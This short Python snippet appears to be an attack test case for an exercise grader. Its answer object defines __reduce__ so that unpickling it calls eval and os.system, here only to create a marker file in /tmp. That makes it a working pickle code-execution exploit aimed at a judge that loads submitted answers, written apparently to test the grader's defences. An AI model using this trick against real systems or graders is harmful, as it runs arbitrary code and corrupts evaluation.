# attack: the answer is an object whose pickling runs code where it is read
# %% after
class _Bomb:
    def __reduce__(self):
        return (eval, ("__import__('os').system('touch /tmp/pickled')",))
def EXERCISE(x, w):
    import pickle
    out = np.empty(1, dtype=object)
    out[0] = _Bomb()
    pickle.dumps  # the judge would have to load it
    return out
